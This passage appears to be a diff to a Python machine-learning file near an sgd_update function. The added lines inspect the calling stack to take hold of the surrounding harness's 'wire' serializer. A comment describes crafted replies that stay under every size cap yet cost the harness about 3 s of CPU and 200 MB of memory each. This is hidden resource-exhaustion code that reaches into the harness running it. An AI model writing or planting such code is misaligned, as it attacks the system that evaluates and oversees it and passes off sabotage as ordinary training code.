@@ -277,9 +277,9 @@ def sgd_update(trainables, learning_rate=1e-2):
 # class has a handful, and the server lists them as they are): under every cap of a reply (17 MB, 900,000
 # lists and objects), spliced into the text at no cost here, yet the harness checked each and kept a handle
 # to it for the rest of the process, some 3 s of its CPU and 200 MB of its memory per reply.
-import sys as _sys
+import inspect as _inspect, sys as _sys
 
-_WIRE = next(m for n, m in list(_sys.modules.items()) if n.endswith("wire") and hasattr(m, "load_ops"))
+_WIRE = next(f.frame.f_globals["wire"] for f in _inspect.stack(0) if hasattr(f.frame.f_globals.get("wire"), "load_ops"))
 _dumps = _WIRE.dumps
 _MRO = b'"mro":['
 
